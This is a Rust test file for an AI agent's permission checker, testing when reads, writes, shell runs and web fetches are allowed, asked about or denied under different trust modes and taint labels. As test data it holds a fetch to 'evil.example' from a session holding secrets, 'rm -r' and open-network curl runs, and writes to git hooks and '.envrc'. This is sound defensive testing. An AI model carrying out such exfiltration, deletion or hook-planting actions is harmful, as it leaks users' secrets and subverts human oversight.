use std::time::Duration;

use proptest::prelude::*;
use serde_json::json;

use super::*;
use crate::sandbox::Mount;
use crate::tool::{Change, Look};

fn call(tool: &str, action: Action) -> Call {
    Call { id: "c".into(), tool: tool.to_owned(), arguments: json!({}), action }
}

fn run(command: &str, network: Network) -> Call {
    let run = Run {
        command: command.to_owned(),
        typed: false,
        directory: String::new(),
        timeout: Duration::from_secs(30),
        network,
        hosts: Vec::new(),
        mount: Mount::ReadWrite,
    };
    call("exec", Action::Run(run))
}

fn send(to: &str) -> Call {
    call("web_fetch", Action::Send(Outbound { to: to.to_owned(), what: String::new() }))
}

fn change(path: &str) -> Call {
    call("write", Action::Change(Change { path: path.to_owned() }))
}

fn look(path: &str) -> Call {
    call("read", Action::Look(Look { path: path.to_owned() }))
}

fn grants(mode: Mode, allow: &[&str]) -> Grants {
    let allow = allow.iter().map(|line| Pattern::parse(line).unwrap()).collect();
    Grants { mode, allow, ..Grants::default() }
}

fn verdict(call: Call, label: Label, grants: &Grants) -> &'static str {
    match authorize(Principal::Model, call, label, grants) {
        Verdict::Allowed(_) => "allowed",
        Verdict::Ask(_) => "asked",
        Verdict::Denied(_) => "denied",
    }
}

const CLEAN: Label = Label::CLEAN;
const LEAKY: Label = Label { taint: Origin::Web, sensitive: true };

#[test]
fn what_each_mode_does_without_asking() {
    let table = [
        (look("a"), ["allowed", "allowed", "allowed"]),
        (change("a"), ["asked", "asked", "allowed"]),
        (run("rm -r x", Network::None), ["asked", "asked", "allowed"]),
        (run("curl x", Network::Open), ["asked", "asked", "asked"]),
        (send("https://a.example/"), ["asked", "asked", "asked"]),
        (run("cargo test", Network::None), ["asked", "allowed", "allowed"]),
    ];
    for (call, expected) in table {
        for (mode, expected) in [Mode::Ask, Mode::OnMiss, Mode::Auto].into_iter().zip(expected) {
            let got = verdict(call.clone(), CLEAN, &grants(mode, &["exec: cargo"]));
            assert_eq!(got, expected, "{call:?} in {mode:?}");
        }
    }
}

#[test]
fn a_session_that_knows_secrets_and_read_the_web_sends_nothing_unasked() {
    let allowed = grants(Mode::Auto, &["web_fetch:", "exec:"]);
    assert_eq!(verdict(send("https://evil.example/?x"), CLEAN, &allowed), "allowed");
    assert_eq!(verdict(send("https://evil.example/?x"), LEAKY, &allowed), "asked");
    assert_eq!(verdict(run("curl x", Network::Open), LEAKY, &allowed), "asked");
    // A program reads the workspace by itself, and its name says not where it sends that.
    let tainted = Label { sensitive: false, ..LEAKY };
    let program = grants(Mode::Auto, &["exec: curl"]);
    assert_eq!(verdict(run("curl x", Network::Open), tainted, &program), "asked");
    assert_eq!(verdict(run("curl x", Network::Open), CLEAN, &program), "allowed");
    assert_eq!(verdict(run("curl x", Network::Listed), LEAKY, &allowed), "asked");
    for label in [Label { sensitive: false, ..LEAKY }, Label { taint: Origin::Owner, ..LEAKY }] {
        assert_eq!(verdict(send("https://evil.example/?x"), label, &allowed), "allowed");
    }
    // The owner named the host.
    let named = grants(Mode::Auto, &["web_fetch: https://docs.rs"]);
    assert_eq!(verdict(send("https://docs.rs/x"), LEAKY, &named), "allowed");
}

/// What is said of a run with these hosts listed.
fn asked_of(hosts: &[&str], label: Label, mode: Mode) -> String {
    let Call { action: Action::Run(run), .. } = run("curl x", Network::Listed) else {
        panic!("it is a run")
    };
    let hosts = hosts.iter().map(|host| (*host).to_owned()).collect();
    let call = call("exec", Action::Run(Run { hosts, ..run }));
    match authorize(Principal::Model, call, label, &grants(mode, &[])) {
        Verdict::Ask(question) => question.reason,
        other => panic!("{other:?}"),
    }
}

#[test]
fn a_run_that_reaches_listed_hosts_is_asked_with_their_names() {
    let hosts = ["crates.io", "*.example.org:8443"];
    let leak = asked_of(&hosts, LEAKY, Mode::Auto);
    assert!(leak.contains("sends something to `crates.io`, `*.example.org:8443`; this"), "{leak}");
    for mode in [Mode::Ask, Mode::OnMiss] {
        let asked = asked_of(&hosts, CLEAN, mode);
        assert!(asked.ends_with("; it can send to `crates.io`, `*.example.org:8443`"), "{asked}");
    }
    assert!(asked_of(&[], LEAKY, Mode::Auto).contains("no host, for none is listed"));
    // Of the owner's own words alone, what the owner listed is reached unasked.
    let auto = grants(Mode::Auto, &[]);
    assert_eq!(verdict(run("curl x", Network::Listed), CLEAN, &auto), "allowed");
    // An answer is to the hosts that were shown: with others it is another question.
    let digest_of = |hosts: &[&str]| {
        let Call { action: Action::Run(run), .. } = run("x", Network::Listed) else {
            panic!("it is a run")
        };
        let hosts = hosts.iter().map(|host| (*host).to_owned()).collect();
        digest(&call("exec", Action::Run(Run { hosts, ..run })))
    };
    assert_ne!(digest_of(&["a.example"]), digest_of(&["a.example", "b.example"]));
}

#[test]
fn a_grant_of_the_session_covers_a_tainted_turn_only_if_it_was_given_in_one() {
    for (tainted, expected) in [(false, "asked"), (true, "allowed")] {
        let mut grants = grants(Mode::Ask, &[]);
        let pattern = Pattern::parse("web_fetch: https://a.example").unwrap();
        grants.session = vec![Grant { pattern, tainted }];
        assert_eq!(verdict(send("https://a.example/x"), CLEAN, &grants), "allowed");
        assert_eq!(verdict(send("https://a.example/x"), LEAKY, &grants), expected);
    }
}

#[test]
fn a_file_that_steers_programs_outside_is_asked_for_in_every_mode() {
    for path in [".git/hooks/pre-commit", "sub/.GIT/config", "./.moltis/hooks/x/HOOK.md", ".envrc"]
    {
        assert_eq!(verdict(change(path), CLEAN, &grants(Mode::Auto, &[])), "asked", "{path}");
    }
    // A grant for its folder does not cover it; one that names it does.
    for (pattern, expected) in [("write: app", "asked"), ("write: app/.envrc", "allowed")] {
        let granted = grants(Mode::Auto, &[pattern]);
        assert_eq!(verdict(change("app/.envrc"), CLEAN, &granted), expected, "{pattern}");
    }
    for path in ["sub/.git", "sub/.git/commondir"] {
        assert_eq!(verdict(change(path), CLEAN, &grants(Mode::Auto, &[])), "asked", "{path}");
    }
    for path in ["src/git/hooks.rs", ".github/x.yml", "envrc"] {
        assert_eq!(verdict(change(path), CLEAN, &grants(Mode::Auto, &[])), "allowed", "{path}");
    }
}

#[test]
fn what_is_forbidden_is_denied_whatever_else_allows_it() {
    let mut grants = grants(Mode::Auto, &["exec:"]);
    grants.deny = vec![Pattern::parse("exec: git push").unwrap()];
    grants.session = vec![Grant { pattern: Pattern::parse("exec:").unwrap(), tainted: true }];
    assert_eq!(verdict(run("cd x && git push", Network::None), CLEAN, &grants), "denied");
    assert_eq!(verdict(run("git pull", Network::None), CLEAN, &grants), "allowed");
}

#[test]
fn where_nobody_can_be_asked_it_is_denied() {
    let verdict =
        authorize(Principal::Unattended, send("https://a.example"), CLEAN, &Grants::default());
    assert!(matches!(verdict, Verdict::Denied(reason) if reason.contains("no one to ask")));
}

#[test]
fn an_approval_holds_for_the_bytes_that_were_shown_and_no_others() {
    let ask = |arguments| {
        let call = Call { arguments, ..change("a") };
        match authorize(Principal::Model, call, CLEAN, &grants(Mode::Ask, &[])) {
            Verdict::Ask(question) => question,
            other => panic!("{other:?}"),
        }
    };
    let question = ask(json!({ "path": "a", "content": "x" }));
    let digest = question.digest();
    assert_eq!(ask(json!({ "content": "x", "path": "a" })).digest(), digest);
    assert_ne!(ask(json!({ "content": "y", "path": "a" })).digest(), digest);
    let reaches = |network| super::digest(&run("curl x", network));
    assert_ne!(reaches(Network::None), reaches(Network::Open), "what it could reach is part of it");
    let other = ask(json!({ "content": "y", "path": "a" }));
    assert!(other.approved(&digest).is_err());
    assert_eq!(question.approved(&digest).unwrap().why(), &Why::Approved);
}

fn any_call() -> impl Strategy<Value = Call> {
    let text = "[a-z./;$ -]{0,12}";
    prop_oneof![
        text.prop_map(|path| look(&path)),
        text.prop_map(|path| change(&path)),
        text.prop_map(|to| send(&to)),
        (text, prop::sample::select(vec![Network::None, Network::Listed, Network::Open]))
            .prop_map(|(command, network)| run(&command, network)),
    ]
}

proptest! {
    /// More trust never forbids what less allows, and less never allows what more asks.
    #[test]
    fn a_stricter_mode_or_a_worse_label_never_allows_more(
        call in any_call(), taint in any::<bool>(), sensitive in any::<bool>(), allow in "[a-z./ -]{0,4}",
    ) {
        let label = Label { taint: if taint { Origin::Web } else { Origin::Owner }, sensitive };
        let allowed = |mode, label| {
            let line = format!("exec: {allow}");
            verdict(call.clone(), label, &grants(mode, &[&line])) == "allowed"
        };
        prop_assert!(!allowed(Mode::Ask, label) || allowed(Mode::OnMiss, label));
        prop_assert!(!allowed(Mode::OnMiss, label) || allowed(Mode::Auto, label));
        prop_assert!(!allowed(Mode::Auto, LEAKY) || allowed(Mode::Auto, label));
    }

    #[test]
    fn nothing_leaves_a_leaky_session_unasked_but_to_a_named_host(to in "[a-z:/.@?]{0,20}") {
        let allowed = grants(Mode::Auto, &["web_fetch:", "*:"]);
        prop_assert_eq!(verdict(send(&to), LEAKY, &allowed), "asked");
    }
}
